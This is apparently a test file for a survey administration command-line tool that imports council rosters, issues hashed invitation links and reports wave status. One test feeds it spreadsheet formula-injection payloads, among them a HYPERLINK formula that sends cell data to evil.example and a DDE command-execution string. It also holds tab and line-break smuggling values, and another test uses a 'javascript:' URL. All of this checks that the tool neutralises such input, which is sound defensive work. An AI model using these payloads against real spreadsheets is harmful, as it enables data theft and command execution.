import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { onPostgres } from '../support/test-databases.js';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { randomToken, sha256 } from '../../server/security/tokens.js';
import { insertPartTwoResponses } from '../../server/storage/anonymous-store.js';
import { findInvitationBySecret } from '../../server/storage/invitation-store.js';
import { openStores, type Stores } from '../../server/storage/open-stores.js';
import { savePartOneDraft } from '../../server/storage/part-one-draft-store.js';
import { insertPartOneResponses } from '../../server/storage/part-one-store.js';
import { listRoster, waveStatus } from '../../server/storage/roster-store.js';
import { useTempDirs } from '../support/temp-dir.js';
import { cli, toCsv, WAVE_1, WAVE_2 } from './helpers.js';

const tempDir = useTempDirs();

afterEach(() => {
  vi.unstubAllEnvs();
});

const header = ['local_authority', 'name', 'email'];
const roster = [
  ['fife', 'Fiona Fife', 'fiona@fife.gov.uk'],
  ['glasgow_city', 'Gus Glasgow', 'gus@glasgow.gov.uk'],
  ['angus', 'Ann Angus', 'ann@angus.gov.uk'],
];

/** A temp dir used as the working directory (data goes to ./data), with roster.csv in it. */
const workspace = (records: readonly (readonly string[])[] = [header, ...roster]) => {
  const cwd = tempDir();
  writeFileSync(join(cwd, 'roster.csv'), toCsv(records));
  return cwd;
};

/** Opens the workspace's stores for one look, and closes them before the next command runs. */
const withDb = async <T>(cwd: string, work: (stores: Stores) => Promise<T>): Promise<T> => {
  const stores = await openStores({ dataDir: join(cwd, 'data') });
  try {
    return await work(stores);
  } finally {
    await stores.close();
  }
};

const rosterOf = (cwd: string, wave = WAVE_2) => withDb(cwd, (s) => listRoster(s.identifiable, wave));
const invitationHashes = (cwd: string, wave = WAVE_2) =>
  withDb(cwd, (s) =>
    s.identifiable.selectFrom('invitation').select(['local_authority', 'token_hash']).where('wave_id', '=', wave).orderBy('local_authority').execute(),
  );

const linkLine = /^([a-z_]+)\t([^\t\n]+)\t([^\t\n]+)\thttp:\/\/127\.0\.0\.1:3000\/i\/([A-Za-z0-9_-]{43})$/;

/** The invite lines printed on stdout, by council. */
const linksOf = (stdout: string) =>
  new Map(
    stdout
      .trimEnd()
      .split('\n')
      .filter((l) => l !== '')
      .map((line) => {
        const m = linkLine.exec(line);
        if (!m) throw new Error(`not an invitation line: ${JSON.stringify(line)}`);
        return [m[1]!, { name: m[2]!, email: m[3]!, secret: m[4]! }] as const;
      }),
  );

const importRoster = async (cwd: string, wave = WAVE_2) => {
  const result = await cli(cwd, ['roster', 'import', '--wave', wave, 'roster.csv']);
  expect(result).toMatchObject({ code: 0, stderr: '' });
  return result;
};

describe('roster import', () => {
  it('stores a good roster, with a BOM, columns in any order and surrounding spaces trimmed', async () => {
    const cwd = workspace();
    const text = toCsv([
      ['email', ' local_authority ', 'name'],
      [' fiona@fife.gov.uk ', 'fife', ' Fiona Fife'],
      ['gus@glasgow.gov.uk', 'glasgow_city', 'Gus Glasgow'],
      [],
      ['ann@angus.gov.uk', 'angus', 'Ann Angus'],
    ]);
    writeFileSync(join(cwd, 'roster.csv'), `\ufeff${text}`);
    const result = await cli(cwd, ['roster', 'import', '--wave', WAVE_2, 'roster.csv']);
    expect(result).toEqual({ code: 0, stdout: `roster for wave ${WAVE_2}: 3 councils\n`, stderr: '' });
    expect(await rosterOf(cwd)).toEqual([
      { wave_id: WAVE_2, local_authority: 'angus', name: 'Ann Angus', email: 'ann@angus.gov.uk' },
      { wave_id: WAVE_2, local_authority: 'fife', name: 'Fiona Fife', email: 'fiona@fife.gov.uk' },
      { wave_id: WAVE_2, local_authority: 'glasgow_city', name: 'Gus Glasgow', email: 'gus@glasgow.gov.uk' },
    ]);
    // Rosters are per wave.
    expect(await rosterOf(cwd, WAVE_1)).toEqual([]);
  });

  it('reads standard input with "-" and replaces the previous roster', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    const result = await cli(cwd, ['roster', 'import', '--wave', WAVE_2, '-'], toCsv([header, ['moray', 'Mo Moray', 'mo@moray.gov.uk']]));
    expect(result).toEqual({ code: 0, stdout: `roster for wave ${WAVE_2}: 1 council\n`, stderr: '' });
    expect((await rosterOf(cwd)).map((r) => r.local_authority)).toEqual(['moray']);
  });

  it('keeps invited councils that the new file leaves out, and says so', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    await cli(cwd, ['invite', '--wave', WAVE_2, '--council', 'fife']);
    writeFileSync(join(cwd, 'roster.csv'), toCsv([header, ['angus', 'Ann Angus', 'ann@angus.gov.uk']]));
    const result = await cli(cwd, ['roster', 'import', '--wave', WAVE_2, 'roster.csv']);
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(`roster for wave ${WAVE_2}: 2 councils\n`);
    expect(result.stderr).toBe('note: 1 council not in the file stays on the roster because it has an invitation: fife\n');
    expect((await rosterOf(cwd)).map((r) => r.local_authority)).toEqual(['angus', 'fife']);
  });

  const bad: [string, string | Buffer, RegExp | string][] = [
    [
      'a council label instead of its code',
      toCsv([header, roster[0]!, ['Glasgow City', 'Gus', 'gus@glasgow.gov.uk']]),
      'row 3, column local_authority: expected a council code such as aberdeen_city, got "Glasgow City"; did you mean "glasgow_city"?',
    ],
    [
      'a council in capitals',
      toCsv([header, ['FIFE', 'Fiona', 'fiona@fife.gov.uk']]),
      'row 2, column local_authority: expected a council code such as aberdeen_city, got "FIFE"; did you mean "fife"?',
    ],
    [
      'a council that does not exist',
      toCsv([header, ['atlantis', 'A', 'a@atlantis.gov.uk']]),
      'row 2, column local_authority: expected a council code such as aberdeen_city, got "atlantis"\n',
    ],
    [
      'an empty council',
      toCsv([header, ['', 'A', 'a@b.gov.uk']]),
      'row 2, column local_authority: expected a council code such as aberdeen_city, but it is empty',
    ],
    ['an empty name', toCsv([header, ['fife', '  ', 'fiona@fife.gov.uk']]), "row 2, column name: expected the officer's name, but it is empty"],
    [
      'a name over 200 characters',
      toCsv([header, ['fife', 'x'.repeat(201), 'fiona@fife.gov.uk']]),
      'row 2, column name: expected text of at most 200 characters, got "xxx',
    ],
    [
      'a name with a tab',
      toCsv([header, ['fife', 'Fiona\tFife', 'fiona@fife.gov.uk']]),
      'row 2, column name: expected one line of text without tabs or control characters, got "Fiona\\tFife"',
    ],
    [
      'a bad email',
      toCsv([header, ['fife', 'Fiona', 'fiona.fife.gov.uk']]),
      'row 2, column email: expected an email address like name@council.gov.uk, got "fiona.fife.gov.uk"',
    ],
    ['an empty email', toCsv([header, ['fife', 'Fiona', '']]), 'row 2, column email: expected an email address like name@council.gov.uk, but it is empty'],
    [
      'a council listed twice',
      toCsv([header, ...roster, ['fife', 'Other', 'other@fife.gov.uk']]),
      'row 5, column local_authority: "fife" is already listed in row 2; a roster lists each council once',
    ],
    [
      'an extra column',
      toCsv([
        [...header, 'phone'],
        ['fife', 'Fiona', 'fiona@fife.gov.uk', '0123'],
      ]),
      'header: unknown column "phone": a roster has exactly the columns local_authority, name, email',
    ],
    [
      'a misnamed column',
      toCsv([['Local Authority', 'name', 'email'], roster[0]!]),
      /header: unknown column "Local Authority"; did you mean "local_authority"\?\nheader: missing column "local_authority"/,
    ],
    [
      'a missing column',
      toCsv([
        ['local_authority', 'name'],
        ['fife', 'Fiona'],
      ]),
      'header: missing column "email"; a roster has exactly the columns local_authority, name, email',
    ],
    [
      'a column twice',
      toCsv([
        [...header, 'email'],
        ['fife', 'Fiona', 'a@b.gov.uk', 'a@b.gov.uk'],
      ]),
      'header: column "email" appears twice (columns 3 and 4)',
    ],
    ['a short row', toCsv([header, ['fife', 'Fiona']]), 'row 2: has 2 cells but the header has 3 columns'],
    ['an empty file', '', 'the file is empty: expected a header row local_authority,name,email'],
    ['a header only', toCsv([header]), 'the file has a header but no councils: nothing to import'],
    [
      'Windows-1252 text',
      Buffer.from('local_authority,name,email\r\nfife,Se\xe1n,sean@fife.gov.uk\r\n', 'latin1'),
      'line 2 is not valid UTF-8 (perhaps Windows-1252 or Latin-1)',
    ],
    ['an Excel workbook', Buffer.from([0x50, 0x4b, 0x03, 0x04, 0, 0, 0]), 'this is an Excel workbook or other zip file (.xlsx), not a UTF-8 CSV file'],
    ['broken CSV quoting', 'local_authority,name,email\r\nfife,"Fiona,fiona@fife.gov.uk\r\n', /the file is not valid CSV/],
  ];

  it.each(bad)('refuses %s, naming the problem, and changes nothing', async (_what, content, message) => {
    const cwd = workspace();
    // A roster already in place must survive a refused file untouched.
    await importRoster(cwd);
    const before = await rosterOf(cwd);
    writeFileSync(join(cwd, 'bad.csv'), content);
    const result = await cli(cwd, ['roster', 'import', '--wave', WAVE_2, 'bad.csv']);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/^error: bad\.csv: nothing was imported: \d+ problems?\n/);
    if (typeof message === 'string') expect(result.stderr).toContain(message);
    else expect(result.stderr).toMatch(message);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    expect(await rosterOf(cwd)).toEqual(before);
  });

  it('lists every problem of a file at once and stores nothing in an empty data directory', async () => {
    const cwd = workspace([header, ['Fife', '', 'x'], ['fife', 'Fiona', 'fiona@fife.gov.uk'], ['fife', 'Again', 'again@fife.gov.uk']]);
    const result = await cli(cwd, ['roster', 'import', '--wave', WAVE_2, 'roster.csv']);
    expect(result.code).toBe(1);
    expect(result.stderr).toBe(
      'error: roster.csv: nothing was imported: 4 problems\n' +
        'row 2, column local_authority: expected a council code such as aberdeen_city, got "Fife"; did you mean "fife"?\n' +
        "row 2, column name: expected the officer's name, but it is empty\n" +
        'row 2, column email: expected an email address like name@council.gov.uk, got "x"\n' +
        'row 4, column local_authority: "fife" is already listed in row 3; a roster lists each council once\n',
    );
    expect(await rosterOf(cwd)).toEqual([]);
  });

  it('refuses an unknown wave before reading anything', async () => {
    const cwd = workspace();
    const result = await cli(cwd, ['roster', 'import', '--wave', '1999-01', 'roster.csv']);
    expect(result).toEqual({ code: 1, stdout: '', stderr: 'error: unknown wave "1999-01": the waves are 2020-01, 2020-06\n' });
    // The waves live in the data directory, so it was opened to look; nothing was written to it.
    expect(await withDb(cwd, (s) => s.identifiable.selectFrom('roster').selectAll().execute())).toEqual([]);
    expect(await withDb(cwd, (s) => s.identifiable.selectFrom('audit_event').selectAll().execute())).toEqual([]);
  });

  it('refuses a missing file', async () => {
    const result = await cli(workspace(), ['roster', 'import', '--wave', WAVE_2, 'nope.csv']);
    expect(result).toEqual({ code: 1, stdout: '', stderr: 'error: cannot read nope.csv: no such file\n' });
  });
});

describe('invite', () => {
  it('opens the wave and prints one well-formed link per council; only the hash is stored', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    const result = await cli(cwd, ['invite', '--wave', WAVE_2]);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe(`wave ${WAVE_2} is now open (it was not opened)\n`);
    const links = linksOf(result.stdout);
    expect([...links.keys()]).toEqual(['angus', 'fife', 'glasgow_city']);
    expect(links.get('fife')).toMatchObject({ name: 'Fiona Fife', email: 'fiona@fife.gov.uk' });
    const secrets = [...links.values()].map((l) => l.secret);
    expect(new Set(secrets).size).toBe(3);

    expect(await invitationHashes(cwd)).toEqual([...links].map(([council, l]) => ({ local_authority: council, token_hash: sha256(l.secret) })));
    expect(await withDb(cwd, (s) => waveStatus(s.identifiable, WAVE_2))).toBe('open');
    for (const [council, l] of links) {
      expect(await withDb(cwd, (s) => findInvitationBySecret(s.identifiable, l.secret))).toMatchObject({ waveId: WAVE_2, localAuthority: council });
    }

    // The secrets themselves are in no file of the data directory (database, WAL or anything else).
    // (On PostgreSQL the stored rows are checked above; its files are the server's.)
    if (onPostgres()) return;
    const files = readdirSync(join(cwd, 'data'));
    expect(files).toContain('identifiable.db');
    for (const file of files) {
      const bytes = readFileSync(join(cwd, 'data', file));
      for (const secret of secrets) expect(bytes.includes(Buffer.from(secret)), `${secret} in ${file}`).toBe(false);
    }
    // The hashes are there, as a check that the search would have found text in the file.
    expect(readFileSync(join(cwd, 'data', 'identifiable.db')).includes(Buffer.from(sha256(secrets[0]!)))).toBe(true);
  });

  it('puts every cell through the formula guard, and no roster value can add a cell or a line', async () => {
    const formulas = [
      ['fife', '=HYPERLINK("https://evil.example/?"&A1,"Open")', 'fiona@fife.gov.uk'],
      ['glasgow_city', '+SUM(1,2)', '-gus@glasgow.gov.uk'],
      ['angus', "@cmd|' /C calc'!A0", 'ann@angus.gov.uk'],
    ];
    const cwd = workspace([header, ...formulas]);
    // Formula-like values pass roster import: they are plain text until a spreadsheet runs them.
    await importRoster(cwd);
    expect((await rosterOf(cwd)).map((r) => [r.local_authority, r.name])).toEqual([
      ['angus', formulas[2]![1]],
      ['fife', formulas[0]![1]],
      ['glasgow_city', formulas[1]![1]],
    ]);
    // Tabs and line breaks are refused by roster import; rows written to the store another way may hold them.
    await withDb(cwd, (s) =>
      s.identifiable
        .updateTable('roster')
        .set({ name: '\t=1+1\tsecond cell', email: 'ann@angus.gov.uk\r\n=EVIL()' })
        .where('wave_id', '=', WAVE_2)
        .where('local_authority', '=', 'angus')
        .execute(),
    );

    const result = await cli(cwd, ['invite', '--wave', WAVE_2, '--header']);
    expect(result.code).toBe(0);
    const lines = result.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(4);
    const rows = lines.map((l) => l.split('\t'));
    for (const row of rows) {
      expect(row).toHaveLength(4);
      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    expect(rows[0]).toEqual(['local_authority', 'name', 'email', 'link']);
    expect(rows.slice(1).map((r) => r.slice(0, 3))).toEqual([
      ['angus', "' =1+1 second cell", 'ann@angus.gov.uk  =EVIL()'],
      ['fife', `'${formulas[0]![1]}`, 'fiona@fife.gov.uk'],
      ['glasgow_city', "'+SUM(1,2)", "'-gus@glasgow.gov.uk"],
    ]);
    expect(rows.slice(1).every((r) => /^http:\/\/127\.0\.0\.1:3000\/i\/[A-Za-z0-9_-]{43}$/.test(r[3]!))).toBe(true);
  });

  it('a second invite issues nothing new and says why; --council invites just those', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    const first = await cli(cwd, ['invite', '--wave', WAVE_2, '--council', 'fife', '--council', 'angus']);
    expect([...linksOf(first.stdout).keys()]).toEqual(['angus', 'fife']);
    const hashes = await invitationHashes(cwd);

    const second = await cli(cwd, ['invite', '--wave', WAVE_2]);
    expect(second.code).toBe(0);
    expect([...linksOf(second.stdout).keys()]).toEqual(['glasgow_city']);
    expect(second.stderr).toBe('2 councils already have invitations (use --reissue to replace their links)\n');

    const third = await cli(cwd, ['invite', '--wave', WAVE_2]);
    expect(third).toEqual({
      code: 0,
      stdout: '',
      stderr: '3 councils already have invitations (use --reissue to replace their links)\nno invitations were issued\n',
    });
    const after = await invitationHashes(cwd);
    expect(after.filter((h) => h.local_authority !== 'glasgow_city')).toEqual(hashes);
  });

  it('--reissue rotates the links: the old secrets stop working', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    const old = linksOf((await cli(cwd, ['invite', '--wave', WAVE_2])).stdout);
    const result = await cli(cwd, ['invite', '--wave', WAVE_2, '--reissue', '--council', 'fife']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
    const fresh = linksOf(result.stdout);
    expect([...fresh.keys()]).toEqual(['fife']);
    expect(fresh.get('fife')!.secret).not.toBe(old.get('fife')!.secret);
    await withDb(cwd, async (s) => {
      expect(await findInvitationBySecret(s.identifiable, old.get('fife')!.secret)).toBeUndefined();
      expect(await findInvitationBySecret(s.identifiable, fresh.get('fife')!.secret)).toMatchObject({ localAuthority: 'fife' });
      // Councils not named keep their links.
      expect(await findInvitationBySecret(s.identifiable, old.get('angus')!.secret)).toMatchObject({ localAuthority: 'angus' });
    });

    const all = await cli(cwd, ['invite', '--wave', WAVE_2, '--reissue', '--header']);
    const [head, ...rest] = all.stdout.split('\n');
    expect(head).toBe('local_authority\tname\temail\tlink');
    expect([...linksOf(rest.join('\n')).keys()]).toEqual(['angus', 'fife', 'glasgow_city']);
    expect(await withDb(cwd, (s) => findInvitationBySecret(s.identifiable, old.get('angus')!.secret))).toBeUndefined();
  });

  it('keeps a part-one draft when a council gets a new link', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    const old = linksOf((await cli(cwd, ['invite', '--wave', WAVE_2])).stdout);
    await withDb(cwd, async (s) => {
      const invitation = await findInvitationBySecret(s.identifiable, old.get('angus')!.secret);
      await savePartOneDraft(s.identifiable, invitation!.id, { answers: { role: 'cswo' }, section: 'about_you' });
    });
    const result = await cli(cwd, ['invite', '--wave', WAVE_2, '--reissue', '--council', 'angus']);
    expect(result.code).toBe(0);
    expect(result.stderr).toBe('');
    // The invitation keeps its id and its draft; only the link changes.
    const fresh = linksOf(result.stdout).get('angus')!.secret;
    await withDb(cwd, async (s) => {
      expect(await findInvitationBySecret(s.identifiable, old.get('angus')!.secret)).toBeUndefined();
      const invitation = await findInvitationBySecret(s.identifiable, fresh);
      expect(await s.identifiable.selectFrom('part_one_draft').select('invitation_id').execute()).toEqual([{ invitation_id: invitation!.id }]);
    });
  });

  it('never gives a new link to a council that has submitted part one', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    const old = linksOf((await cli(cwd, ['invite', '--wave', WAVE_2])).stdout);
    await withDb(cwd, (s) => insertPartOneResponses(s.identifiable, WAVE_2, [{ localAuthority: 'fife', answers: { local_authority: 'fife' } }]));
    const before = await invitationHashes(cwd);

    // Named: refused whole, nothing changes (not even angus's link).
    const named = await cli(cwd, ['invite', '--wave', WAVE_2, '--reissue', '--council', 'fife', '--council', 'angus']);
    expect(named).toEqual({
      code: 1,
      stdout: '',
      stderr: `error: fife has already submitted part one for wave ${WAVE_2}: a new link would allow a second part-two answer; nothing was changed\n`,
    });
    expect(await invitationHashes(cwd)).toEqual(before);

    // The whole roster: every other council gets a new link, fife keeps its own.
    const all = await cli(cwd, ['invite', '--wave', WAVE_2, '--reissue']);
    expect(all.code).toBe(0);
    expect([...linksOf(all.stdout).keys()]).toEqual(['angus', 'glasgow_city']);
    expect(all.stderr).toBe('no new link for 1 council that already submitted part one (a new link would allow a second part-two answer): fife\n');
    expect(await withDb(cwd, (s) => findInvitationBySecret(s.identifiable, old.get('fife')!.secret))).toMatchObject({ localAuthority: 'fife' });
  });

  it('gives no first link to a council whose part one is already stored (say, imported)', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    await withDb(cwd, (s) => insertPartOneResponses(s.identifiable, WAVE_2, [{ localAuthority: 'angus', answers: { local_authority: 'angus' } }]));
    const result = await cli(cwd, ['invite', '--wave', WAVE_2]);
    expect([...linksOf(result.stdout).keys()]).toEqual(['fife', 'glasgow_city']);
    expect(result.stderr).toContain('no new link for 1 council that already submitted part one');
    const named = await cli(cwd, ['invite', '--wave', WAVE_2, '--council', 'angus']);
    expect(named.code).toBe(1);
    expect(named.stderr).toMatch(/^error: angus has already submitted part one/);
  });

  it('uses --base-url, else PUBLIC_URL, without a trailing slash', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    const given = await cli(cwd, ['invite', '--wave', WAVE_2, '--council', 'fife', '--base-url', 'https://survey.example.org/cswo/']);
    expect(given.stdout).toMatch(/^fife\tFiona Fife\tfiona@fife\.gov\.uk\thttps:\/\/survey\.example\.org\/cswo\/i\/[A-Za-z0-9_-]{43}\n$/);
    vi.stubEnv('PUBLIC_URL', 'https://survey.example.org/');
    const fromEnv = await cli(cwd, ['invite', '--wave', WAVE_2, '--council', 'angus']);
    expect(fromEnv.stdout).toMatch(/^angus\t.*\thttps:\/\/survey\.example\.org\/i\/[A-Za-z0-9_-]{43}\n$/);
  });

  it.each([
    [
      'a non-http --base-url',
      ['--base-url', 'ftp://example.org'],
      2,
      'error: --base-url must be an http or https address such as https://survey.example.org, got "ftp://example.org"\n',
    ],
    ['a --base-url that is not a URL', ['--base-url', 'survey.example.org'], 2, /^error: --base-url must be an http or https address/],
    ['a --base-url with a query', ['--base-url', 'https://example.org/?x=1'], 2, /^error: --base-url must be/],
    ['an unknown council', ['--council', 'Fife'], 2, 'error: --council: expected a council code such as aberdeen_city, got "Fife"; did you mean "fife"?\n'],
    ['a council not on the roster', ['--council', 'moray'], 1, `error: not on the roster of wave ${WAVE_2}: moray (add them with roster import)\n`],
    ['an unknown wave', ['--wave', '1999-01'], 1, 'error: unknown wave "1999-01": the waves are 2020-01, 2020-06\n'],
  ])('refuses %s and issues nothing', async (_what, extra, code, message) => {
    const cwd = workspace();
    await importRoster(cwd);
    const argv = extra.includes('--wave') ? ['invite', ...extra] : ['invite', '--wave', WAVE_2, ...extra];
    const result = await cli(cwd, argv);
    expect(result.code).toBe(code);
    expect(result.stdout).toBe('');
    if (typeof message === 'string') expect(result.stderr).toBe(message);
    else expect(result.stderr).toMatch(message);
    expect(await invitationHashes(cwd)).toEqual([]);
    expect(await withDb(cwd, (s) => waveStatus(s.identifiable, WAVE_2))).toBe('not opened');
  });

  it('refuses a bad PUBLIC_URL', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    vi.stubEnv('PUBLIC_URL', 'javascript:alert(1)');
    const result = await cli(cwd, ['invite', '--wave', WAVE_2]);
    expect(result).toEqual({
      code: 1,
      stdout: '',
      stderr: 'error: PUBLIC_URL must be an http or https address such as https://survey.example.org, got "javascript:alert(1)"\n',
    });
  });

  it('refuses a wave without a roster', async () => {
    const cwd = workspace();
    await importRoster(cwd);
    const result = await cli(cwd, ['invite', '--wave', WAVE_1]);
    expect(result).toEqual({
      code: 1,
      stdout: '',
      stderr: `error: wave ${WAVE_1} has no roster: import one first with "roster import --wave ${WAVE_1} FILE.csv"\n`,
    });
    expect(await withDb(cwd, (s) => waveStatus(s.identifiable, WAVE_1))).toBe('not opened');
  });
});

describe('status', () => {
  it('shows each council, part one states and only a total for part two', async () => {
    const cwd = workspace();
    const empty = await cli(cwd, ['status', '--wave', WAVE_2]);
    expect(empty).toEqual({
      code: 0,
      stdout: `wave ${WAVE_2}: not opened\nno roster: import one with "roster import --wave ${WAVE_2} FILE.csv"\npart two: 0 submitted (a total only: part two is anonymous)\n`,
      stderr: '',
    });

    await importRoster(cwd);
    const links = linksOf((await cli(cwd, ['invite', '--wave', WAVE_2, '--council', 'fife', '--council', 'glasgow_city'])).stdout);
    await withDb(cwd, async (s) => {
      const glasgow = await findInvitationBySecret(s.identifiable, links.get('glasgow_city')!.secret);
      await savePartOneDraft(s.identifiable, glasgow!.id, { answers: { role: 'cswo' }, section: 'about_you' });
      await insertPartOneResponses(s.identifiable, WAVE_2, [{ localAuthority: 'fife', answers: { local_authority: 'fife' } }]);
      await insertPartTwoResponses(s.anonymous, WAVE_2, [{ groups_involved: 1 }, { groups_involved: 2 }]);
    });

    const text = await cli(cwd, ['status', '--wave', WAVE_2]);
    expect(text.code).toBe(0);
    expect(text.stderr).toBe('');
    expect(text.stdout).toBe(
      [
        `wave ${WAVE_2}: open`,
        'council       name         invited  part one',
        'angus         Ann Angus    no       not started',
        'fife          Fiona Fife   yes      submitted',
        'glasgow_city  Gus Glasgow  yes      in progress',
        'invited: 2 of 3',
        'part one: 1 submitted, 1 in progress, 1 not started',
        'part two: 2 submitted (a total only: part two is anonymous)',
        '',
      ].join('\n'),
    );

    const json = await cli(cwd, ['status', '--wave', WAVE_2, '--json']);
    expect(JSON.parse(json.stdout)).toEqual({
      wave: WAVE_2,
      status: 'open',
      councils: [
        { localAuthority: 'angus', name: 'Ann Angus', invited: false, partOne: 'not started' },
        { localAuthority: 'fife', name: 'Fiona Fife', invited: true, partOne: 'submitted' },
        { localAuthority: 'glasgow_city', name: 'Gus Glasgow', invited: true, partOne: 'in progress' },
      ],
      partOne: { 'not started': 1, 'in progress': 1, submitted: 1 },
      partTwo: { submitted: 2 },
    });
    // Nothing about part two per council, in either form.
    for (const line of [...text.stdout.split('\n'), ...json.stdout.split('\n')]) {
      if (/fife|angus|glasgow/.test(line)) expect(line).not.toMatch(/part ?two/i);
    }
  });

  it('refuses an unknown wave', async () => {
    const result = await cli(tempDir(), ['status', '--wave', '1999-01', '--json']);
    expect(result).toEqual({ code: 1, stdout: '', stderr: 'error: unknown wave "1999-01": the waves are 2020-01, 2020-06\n' });
  });
});

describe('wave open and close', () => {
  it('sets the status and says what it was', async () => {
    const cwd = tempDir();
    expect(await cli(cwd, ['wave', 'open', '--wave', WAVE_2])).toEqual({ code: 0, stdout: `wave ${WAVE_2} is now open (it was not opened)\n`, stderr: '' });
    expect(await cli(cwd, ['wave', 'open', '--wave', WAVE_2])).toEqual({ code: 0, stdout: `wave ${WAVE_2} was already open\n`, stderr: '' });
    expect(await cli(cwd, ['wave', 'close', '--wave', WAVE_2])).toEqual({ code: 0, stdout: `wave ${WAVE_2} is now closed (it was open)\n`, stderr: '' });
    expect(await withDb(cwd, (s) => waveStatus(s.identifiable, WAVE_2))).toBe('closed');
    expect(await withDb(cwd, (s) => waveStatus(s.identifiable, WAVE_1))).toBe('not opened');
    expect((await cli(cwd, ['status', '--wave', WAVE_2])).stdout).toMatch(/^wave 2020-06: closed\n/);
  });

  it('refuses an unknown wave and a missing --wave', async () => {
    const cwd = tempDir();
    expect(await cli(cwd, ['wave', 'close', '--wave', '1999-01'])).toEqual({
      code: 1,
      stdout: '',
      stderr: 'error: unknown wave "1999-01": the waves are 2020-01, 2020-06\n',
    });
    expect(await withDb(cwd, (s) => s.identifiable.selectFrom('wave_status').selectAll().execute())).toEqual([]);
    const missing = await cli(tempDir(), ['wave', 'open']);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/^error: required option '--wave <wave>' not specified/);
  });
});

describe('--help', () => {
  it.each([['roster'], ['roster', 'import'], ['invite'], ['status'], ['wave'], ['wave', 'open'], ['wave', 'close']])('%s --help', async (...command) => {
    const cwd = tempDir();
    const result = await cli(cwd, [...command, '--help']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`Usage: cli ${command.join(' ')}`);
    expect(result.stderr).toBe('');
    expect(readdirSync(cwd)).toEqual([]);
  });
});

// Keeps the import of randomToken honest: a secret that was never issued finds nothing.
it('a random secret finds no invitation', async () => {
  const cwd = workspace();
  await importRoster(cwd);
  await cli(cwd, ['invite', '--wave', WAVE_2]);
  expect(await withDb(cwd, (s) => findInvitationBySecret(s.identifiable, randomToken()))).toBeUndefined();
});
